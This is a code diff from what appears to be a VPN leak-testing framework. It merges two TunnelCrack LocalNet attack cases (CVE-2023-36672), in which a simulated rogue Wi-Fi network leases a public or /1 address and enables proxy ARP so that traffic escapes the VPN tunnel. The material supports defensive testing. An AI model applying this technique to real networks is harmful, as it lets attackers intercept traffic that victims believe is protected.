@@ -14,29 +14,19 @@ def _datagram(scene, address, port=7):
     socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM).sendto(scene.token, (address, port))
 
 
-@attack("TunnelCrack LocalNet: a public range as the local network (CVE-2023-36672)", batch=1, dirty=True, settle=0.1)
-def _local_net(scene):
-    """The rogue network leases a public address, with the victim's server in the same prefix."""
-    device = scene.world.device
-    device.ip(f"addr add 198.51.100.20/24 dev {scene.link}")
-    scene.world.places["wifi"].sysctl(net__ipv4__conf__device0__proxy_arp=1, net__ipv4__neigh__device0__proxy_delay=0)
-    try:
-        yield Leak(token=scene.token)
-        _datagram(scene, scene.server)
-    finally:
-        device.ip(f"addr delete 198.51.100.20/24 dev {scene.link}")
+for _title, _leased in (("a public range as the local network (CVE-2023-36672)", "198.51.100.20/24"), ("0.0.0.0/1 on the link", "192.168.1.21/1")):
 
-
-@attack("TunnelCrack LocalNet: 0.0.0.0/1 on the link", batch=1, dirty=True, settle=0.1)
-def _half_the_world(scene):
-    device = scene.world.device
-    device.ip(f"addr add 192.168.1.21/1 dev {scene.link}")
-    scene.world.places["wifi"].sysctl(net__ipv4__conf__device0__proxy_arp=1, net__ipv4__neigh__device0__proxy_delay=0)
-    try:
-        yield Leak(token=scene.token)
-        _datagram(scene, scene.server)
-    finally:
-        device.ip(f"addr delete 192.168.1.21/1 dev {scene.link}")
+    @attack(f"TunnelCrack LocalNet: {_title}", batch=1, dirty=True, settle=0.1)
+    def _local_net(scene, leased=_leased):
+        """The rogue network leases an address with the victim's server in the same prefix, and answers for it."""
+        device = scene.world.device
+        device.ip(f"addr add {leased} dev {scene.link}")
+        scene.world.places["wifi"].sysctl(net__ipv4__conf__device0__proxy_arp=1, net__ipv4__neigh__device0__proxy_delay=0)
+        try:
+            yield Leak(token=scene.token)
+            _datagram(scene, scene.server)
+        finally:
+            device.ip(f"addr delete {leased} dev {scene.link}")
 
 
 for _title, _address in (("", GATEWAY), (", IPv6", GATEWAY6)):
